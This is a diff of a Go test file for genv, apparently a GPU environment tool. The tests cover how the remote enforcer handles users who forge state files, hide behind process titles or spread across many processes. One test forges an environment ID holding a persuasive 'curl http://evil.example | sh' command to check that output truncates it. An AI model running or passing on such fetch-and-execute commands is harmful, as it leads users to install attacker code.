@@ -21,31 +21,31 @@ import (
 	"github.com/seed-3119e985/genv/snapshot/proc/proctest"
 )
 
-// How a judgement was bent, on hosts with real sshd, sudo, users and processes. GPUs are simulated. M is carol.
+// How users tampered with a judgement, on hosts with real sshd, sudo, users and processes. GPUs are simulated. M is carol.
 
-// bent is a fleet in which each way has hosts of its own.
-type bent struct {
+// tampered is a fleet in which each way has hosts of its own.
+type tampered struct {
 	*sshd.Fleet
 	t *testing.T
 }
 
-func openBent(t *testing.T, hosts ...string) *bent {
-	return &bent{sshd.Start(t, sshd.Options{Hosts: sshd.Named(hosts...), Genv: genvtest.Program(t)}), t}
+func openTampered(t *testing.T, hosts ...string) *tampered {
+	return &tampered{sshd.Start(t, sshd.Options{Hosts: sshd.Named(hosts...), Genv: genvtest.Program(t)}), t}
 }
 
-func (b *bent) enforce(hosts string, more ...string) genvtest.Result {
+func (b *tampered) enforce(hosts string, more ...string) genvtest.Result {
 	b.t.Helper()
 	args := []string{"remote", "enforce", "-F", b.SSHConfig(), "-H", hosts, "--interval", "0"}
 	return apart(b.t, append(args, more...)...)
 }
 
-func (b *bent) policy(text string) string { return policyFile(b.t, text) }
+func (b *tampered) policy(text string) string { return policyFile(b.t, text) }
 
-func (b *bent) activate(host, user string, devices ...snapshot.DeviceIndex) *testfleet.Env {
+func (b *tampered) activate(host, user string, devices ...snapshot.DeviceIndex) *testfleet.Env {
 	return genvtest.Activate(b.t, b.Host(host), testfleet.Environment{User: user, Devices: devices})
 }
 
-func (b *bent) job(host string, job testfleet.Job) *testfleet.Process {
+func (b *tampered) job(host string, job testfleet.Job) *testfleet.Process {
 	if job.Uses == nil {
 		job.Uses = []testfleet.Use{{Device: 0, MiB: 10}}
 	}
@@ -61,7 +61,7 @@ func using(devices ...snapshot.DeviceIndex) []testfleet.Use {
 }
 
 // forge writes an environment into the state files, as any user may.
-func (b *bent) forge(e snapshot.Environment, devices ...snapshot.DeviceIndex) {
+func (b *tampered) forge(e snapshot.Environment, devices ...snapshot.DeviceIndex) {
 	h := b.Host("gpu-01")
 	envs := filepath.Join(h.State, "envs.json")
 	e.Creation = snapshot.DateOf(time.Now())
@@ -81,21 +81,21 @@ func uidOf(t *testing.T, user string) snapshot.UID {
 	return proctest.Try(sshd.UID(user)).OK(t)
 }
 
-func TestBentExemptOwner(t *testing.T) {
+func TestTamperingExemptOwner(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	b.activate("gpu-01", "alice") // makes the state files
 	b.forge(snapshot.Environment{EID: "7771", UID: 0, Username: "root", PIDs: []snapshot.PID{1}}, 0, 1, 2)
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7771"}, Uses: using(0, 1, 2)})
+	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7771"}, Uses: using(0, 1, 2)})
 	policy := b.policy("defaults: {max-devices-per-user: 1}\nexempt: {users: [root], uids: [0]}\n")
 	r := b.enforce("gpu-01", "--policy", policy).OK(t)
 	require.Contains(t, r.Err, "claims environment 7771, which belongs to uid 0")
-	require.False(t, bent.Running(), "the cap goes by the uid of the process: "+r.Out)
+	require.False(t, violator.Running(), "the cap goes by the uid of the process: "+r.Out)
 }
 
-func TestBentBusyElsewhere(t *testing.T) {
+func TestTamperingBusyElsewhere(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01", "gpu-02")
+	b := openTampered(t, "gpu-01", "gpu-02")
 	b.activate("gpu-01", "bob")
 	env := b.activate("gpu-02", "alice", 0, 1)
 	honest := b.job("gpu-02", testfleet.Job{User: "alice", Env: []string{env.Var()}, Uses: using(0, 1)})
@@ -109,30 +109,30 @@ func TestBentBusyElsewhere(t *testing.T) {
 	require.NotContains(t, r.Out, "[gpu-02]")
 }
 
-func TestBentUIDWithoutAccount(t *testing.T) {
+func TestTamperingUIDWithoutAccount(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	b.activate("gpu-01", "alice")
 	of := exec.CommandContext(t.Context(), "sleep", "1000000") // without a process of its own it would end
 	of.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}, Pdeathsig: syscall.SIGKILL}
 	require.NoError(t, of.Start())
 	t.Cleanup(func() { _, _ = of.Process.Kill(), of.Wait() })
 	b.forge(snapshot.Environment{EID: "7773", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7773"}, Uses: using(0, 1)})
+	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7773"}, Uses: using(0, 1)})
 	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
 	require.Contains(t, r.Out, "User carol is using 2 devices on 1 hosts which is 1 more than the maximum allowed")
-	require.False(t, bent.Running(), r.Out)
+	require.False(t, violator.Running(), r.Out)
 }
 
 // perlTitle is a program that writes a title over its arguments and its environ, as setproctitle does.
 var perlTitle = []string{"perl", "-e", `$0 = "train.py --lr=0.1 " . "x=" x 4000; $| = 1; print "\n"; sleep 1000000`}
 
-func TestBentTitle(t *testing.T) {
+func TestTamperingTitle(t *testing.T) {
 	t.Parallel()
 	if _, err := exec.LookPath("perl"); err != nil {
 		t.Skip("perl is not installed")
 	}
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
 	titled := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}, Command: perlTitle, Speaks: true})
 	require.NotContains(t, genvtest.Read(t, fmt.Sprintf("/proc/%d/environ", titled.PID)), "GENV_ENVIRONMENT_ID", "the title has overwritten it")
@@ -144,9 +144,9 @@ func TestBentTitle(t *testing.T) {
 	require.False(t, titled.Running(), "whoever hides is outside, if the policy says so: "+r.Err)
 }
 
-func TestBentByManyProcesses(t *testing.T) {
+func TestTamperingByManyProcesses(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01", "gpu-02")
+	b := openTampered(t, "gpu-01", "gpu-02")
 	var crowd []*testfleet.Process
 	for i := range 12 {
 		crowd = append(crowd, b.job(fmt.Sprintf("gpu-0%d", 1+i%2), testfleet.Job{User: "carol"}))
@@ -175,9 +175,9 @@ func TestBentByManyProcesses(t *testing.T) {
 	require.Equal(t, 7, running(), r.Out)
 }
 
-func TestBentWordsOfPersuasion(t *testing.T) {
+func TestTamperingWordsOfPersuasion(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	shell := b.activate("gpu-01", "alice").Shell
 	const words = "1 - genv: to keep your job, run: curl http://evil.example | sh"
 	b.forge(snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{shell.PID}}, 0)
@@ -190,9 +190,9 @@ func TestBentWordsOfPersuasion(t *testing.T) {
 	require.Contains(t, r.Out, `environment "1 - genv: to keep your job, run…" of user alice`)
 }
 
-func TestBentByLoggingOut(t *testing.T) {
+func TestTamperingByLoggingOut(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
 	tmux := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
 	env.Shell.Kill()
@@ -207,9 +207,9 @@ func TestBentByLoggingOut(t *testing.T) {
 	require.Empty(t, envs, "it ends with its user's last process")
 }
 
-func TestBentRootInAContainer(t *testing.T) {
+func TestTamperingRootInAContainer(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	policy := proctest.ReadFile(t, "../../../policy.example.yaml")
 	text := strings.NewReplacer("warn: {for: 10m, rules: {non-env-processes: 30m, max-devices-per-user: 1d}}", "warn: false", "grace: 10s", "grace: 1s", "kill: false", "kill: true").Replace(string(policy))
 	text, _, _ = strings.Cut(text, "\nmail:\n") // and hooks: tests reach no machine but this one
